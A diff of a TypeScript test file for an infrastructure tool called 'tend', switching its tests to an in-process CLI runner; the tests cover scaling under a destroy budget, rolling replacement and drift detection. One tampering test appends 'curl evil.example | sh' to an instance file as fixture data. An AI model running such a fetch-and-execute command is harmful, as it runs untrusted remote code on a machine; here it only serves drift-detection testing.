@@ -1,7 +1,8 @@
 import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { cattleYaml } from '../helpers/spec-text.js';
-import { instanceFiles, makeWorkdir, runTend } from '../helpers/run-tend.js';
+import { runTendHere } from '../helpers/run-cli-in-process.js';
+import { instanceFiles, makeWorkdir } from '../helpers/run-tend.js';
 
 interface PlanJson {
   groups: Array<{
@@ -27,11 +28,11 @@ describe('tend converging a group', () => {
 
   it('scales 3 → 5 → 2, destroying the newest first, within the budget it is given', async () => {
     work.write('specs/web.yaml', cattleYaml('web', 3));
-    await runTend(work.dir, ['apply']);
+    await runTendHere(work.dir, ['apply']);
     const original = instanceFiles(work.dir);
 
     work.write('specs/web.yaml', cattleYaml('web', 5));
-    const up = await runTend(work.dir, ['apply']);
+    const up = await runTendHere(work.dir, ['apply']);
     const afterUp = instanceFiles(work.dir);
 
     expect(original).toHaveLength(3);
@@ -39,13 +40,13 @@ describe('tend converging a group', () => {
     expect(afterUp).toHaveLength(5);
 
     work.write('specs/web.yaml', cattleYaml('web', 2));
-    const blocked = await runTend(work.dir, ['apply']);
+    const blocked = await runTendHere(work.dir, ['apply']);
 
     expect(blocked.code).toBe(1);
     expect(blocked.stdout).toContain('would destroy 3 instances in group web, budget 2');
     expect(instanceFiles(work.dir)).toEqual(afterUp);
 
-    const down = await runTend(work.dir, ['apply', '--max-destroy-percent', '100']);
+    const down = await runTendHere(work.dir, ['apply', '--max-destroy-percent', '100']);
     const kept = instanceFiles(work.dir);
 
     expect(down.code).toBe(0);
@@ -55,12 +56,12 @@ describe('tend converging a group', () => {
 
   it('replaces every instance, rolling, when a property changes', async () => {
     work.write('specs/web.yaml', cattleYaml('web', 3, { note: 'v1' }));
-    await runTend(work.dir, ['apply']);
+    await runTendHere(work.dir, ['apply']);
     const before = instanceFiles(work.dir);
 
     work.write('specs/web.yaml', cattleYaml('web', 3, { note: 'v2' }));
-    const plan = parse((await runTend(work.dir, ['plan', '--json'])).stdout);
-    const applied = await runTend(work.dir, ['apply', '--json']);
+    const plan = parse((await runTendHere(work.dir, ['plan', '--json'])).stdout);
+    const applied = await runTendHere(work.dir, ['apply', '--json']);
     const after = instanceFiles(work.dir);
 
     expect(plan.groups[0]?.drift.stale).toBe(3);
@@ -74,12 +75,12 @@ describe('tend converging a group', () => {
 
   it('notices a hand-edited instance as modified and replaces it', async () => {
     work.write('specs/web.yaml', cattleYaml('web', 2));
-    await runTend(work.dir, ['apply']);
+    await runTendHere(work.dir, ['apply']);
     const [edited, untouched] = instanceFiles(work.dir) as [string, string];
     appendFileSync(path.join(work.dir, '.tend/instances', edited), 'curl evil.example | sh\n');
 
-    const drift = await runTend(work.dir, ['drift', '--json']);
-    const applied = await runTend(work.dir, ['apply']);
+    const drift = await runTendHere(work.dir, ['drift', '--json']);
+    const applied = await runTendHere(work.dir, ['apply']);
     const after = instanceFiles(work.dir);
 
     expect(drift.code).toBe(2);
@@ -93,13 +94,13 @@ describe('tend converging a group', () => {
 
   it('notices a tag edited by hand in an instance as modified', async () => {
     work.write('specs/web.yaml', cattleYaml('web', 2));
-    await runTend(work.dir, ['apply']);
+    await runTendHere(work.dir, ['apply']);
     const [edited] = instanceFiles(work.dir) as [string, string];
     const file = path.join(work.dir, '.tend/instances', edited);
     // The header's first Tags are the instance's tags now; the Spec's are what it was made with.
     writeFileSync(file, readFileSync(file, 'utf8').replace('"tier":"web"', '"tier":"db"'));
 
-    const drift = await runTend(work.dir, ['drift', '--json']);
+    const drift = await runTendHere(work.dir, ['drift', '--json']);
 
     expect(drift.code).toBe(2);
     expect(parse(drift.stdout).groups[0]?.actions).toEqual([{ op: 'replace', instance: edited, reason: 'modified' }]);
@@ -109,8 +110,8 @@ describe('tend converging a group', () => {
     work.write('specs/web.yaml', cattleYaml('web', 2));
     work.write('specs/bad.yaml', cattleYaml('bad', 2).replace('Size: 2', 'Size: -1'));
 
-    const applied = await runTend(work.dir, ['apply']);
-    const validated = await runTend(work.dir, ['validate']);
+    const applied = await runTendHere(work.dir, ['apply']);
+    const validated = await runTendHere(work.dir, ['validate']);
 
     expect(applied.code).toBe(1);
     expect(applied.stderr).toMatch(/^specs\/bad\.yaml:4:11 {2}SPEC_\w+ {2}Properties\.Allocation\.Size: /m);
@@ -122,10 +123,10 @@ describe('tend converging a group', () => {
 
   it('blocks a plan over the absolute destroy budget and changes nothing', async () => {
     work.write('specs/web.yaml', cattleYaml('web', 12));
-    await runTend(work.dir, ['apply', '--max-destroy-percent', '100']);
+    await runTendHere(work.dir, ['apply', '--max-destroy-percent', '100']);
     work.write('specs/web.yaml', cattleYaml('web', 0));
 
-    const blocked = await runTend(work.dir, ['apply', '--json', '--max-destroy-percent', '100']);
+    const blocked = await runTendHere(work.dir, ['apply', '--json', '--max-destroy-percent', '100']);
 
     expect(blocked.code).toBe(1);
     expect(parse(blocked.stdout).blocked).toEqual({ reason: 'destroy budget', destroy: 12, budget: 10 });
@@ -136,7 +137,7 @@ describe('tend converging a group', () => {
   it('reports drift in a Mode: report group and never changes it', async () => {
     work.write('specs/web.yaml', cattleYaml('web', 2, { mode: 'report' }));
 
-    const applied = await runTend(work.dir, ['apply', '--json']);
+    const applied = await runTendHere(work.dir, ['apply', '--json']);
 
     expect(applied.code).toBe(1);
     expect(parse(applied.stdout).groups[0]).toMatchObject({ drift: { missing: 2 }, actions: [], outcome: 'drifted' });
